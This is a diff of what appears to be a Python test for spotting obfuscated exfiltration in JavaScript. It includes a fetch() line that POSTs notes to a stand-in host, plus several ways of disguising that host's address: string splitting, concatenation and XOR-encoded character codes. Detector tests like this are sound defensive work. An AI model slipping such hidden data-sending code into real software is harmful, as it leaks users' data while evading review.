@@ -93,7 +93,7 @@ SENDS = "\nfetch(u, { method: 'POST', body: notes }).catch(() => {});\n"
         "['https:/', 'drop.invalid', id].join('/')",
         "'ht' + 'tps://drop' + '.invalid/' + id",
         "'h'.concat('ttps:', '//drop.invalid')",
-        "((a) => String.fromCharCode(...a.map((c) => c ^ 23)))([127, 99, 99, 103, 100, 45, 56, 56, 115, 101, 120, 103])",
+        "((a) => String.fromCharCode(...a.map((c) => c ^ 23)))([127, 99, 99, 103, 100, 45, 56, 56, 115, 101])",
     ],
 )
 def test_an_address_that_is_cut_up_is_hidden(made: str, tmp_path: Path) -> None:
